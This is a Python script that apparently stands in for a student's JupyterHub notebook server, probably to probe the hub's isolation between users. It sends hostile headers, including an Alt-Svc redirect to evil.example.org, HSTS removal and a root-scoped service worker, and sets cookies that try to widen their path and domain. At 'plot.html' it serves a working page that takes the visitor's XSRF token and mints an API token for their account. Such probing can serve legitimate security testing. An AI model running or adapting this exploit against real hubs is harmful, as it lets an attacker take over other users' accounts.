#!/usr/bin/env python3
"""A program that a student has started in place of the own notebook server. It answers all, and claims all it can."""

import base64
import hashlib
import http.server
import json
import os
import urllib.parse

PREFIX = os.environ["JUPYTERHUB_SERVICE_PREFIX"]
PLACE = urllib.parse.urlsplit(os.environ["JUPYTERHUB_SERVICE_URL"])
# What each of these would do: scripts for the whole host, cookies for the hub's pages, nothing left of the visitor's.
CLAIMS = {
    "Service-Worker-Allowed": "/",
    "Clear-Site-Data": '"cookies"',
    "Strict-Transport-Security": "max-age=0",
    "Alt-Svc": 'h2="evil.example.org:443"',
    "NEL": '{"report_to": "x", "max_age": 9}',
}
COOKIES = (
    "path=1; Path=/hub/",
    "domain=1;\tDOMAIN=example.org ; pAth = / ; Secure",
    "own=1; HttpOnly",
)
# Whoever opens this gives away a token for all that the visitor may do: what it is for stands in the title.
ATTACK = """<!doctype html><title>Loading</title><p id="result">Loading</p><script>
const hub = location.origin.replace(/\\/\\/training\\d+\\./, "//");
async function take() {
  const page = await (await fetch(hub + "/hub/token", {credentials: "include"})).text();
  const [, user] = page.match(/user: "([^"]+)"/), [, xsrf] = page.match(/xsrf_token: "([^"]+)"/);
  const headers = {"X-XSRFToken": xsrf, "Content-Type": "application/json"};
  const ask = {method: "POST", credentials: "include", headers, body: "{}"};
  const answer = await fetch(`${hub}/hub/api/users/${user}/tokens`, ask);
  return `${answer.status} for ${user}`;
}
take().catch(error => `failed: ${error}`).then(text => { document.getElementById("result").textContent = text; });
</script>"""
MAGIC = b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11"  # RFC 6455, section 4.2.2


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def claim(self):
        for name, value in CLAIMS.items():
            self.send_header(name, value)
        for cookie in COOKIES:
            self.send_header("Set-Cookie", cookie)

    def handle_any(self):
        if self.headers.get("Upgrade"):
            return self.echo()
        received = len(self.rfile.read(int(self.headers.get("Content-Length") or 0)))
        kind, text = "text/html", f'<p id="result">The server of {PREFIX}</p>'
        if self.path.endswith("plot.html"):
            text = ATTACK
        elif self.path.endswith("seen"):
            kind, text = "application/json", json.dumps({"received": received, **dict(self.headers.items())})
        self.send_response(200)
        self.claim()
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(text)))
        self.end_headers()
        self.wfile.write(text.encode())

    def echo(self):
        """A WebSocket that gives back the first frame, without its mask."""
        key = hashlib.sha1(self.headers["Sec-WebSocket-Key"].encode() + MAGIC).digest()
        self.send_response(101)
        self.send_header("Upgrade", "websocket")
        self.send_header("Connection", "Upgrade")
        self.send_header("Sec-WebSocket-Accept", base64.b64encode(key).decode())
        self.end_headers()
        _, length = self.rfile.read(2)
        mask, data = self.rfile.read(4), self.rfile.read(length & 127)
        self.wfile.write(bytes((0x81, len(data))) + bytes(byte ^ mask[at % 4] for at, byte in enumerate(data)))
        self.close_connection = True

    do_GET = do_POST = do_PUT = handle_any

    def log_message(self, *_):
        pass


if __name__ == "__main__":
    http.server.ThreadingHTTPServer((PLACE.hostname, PLACE.port), Handler).serve_forever()
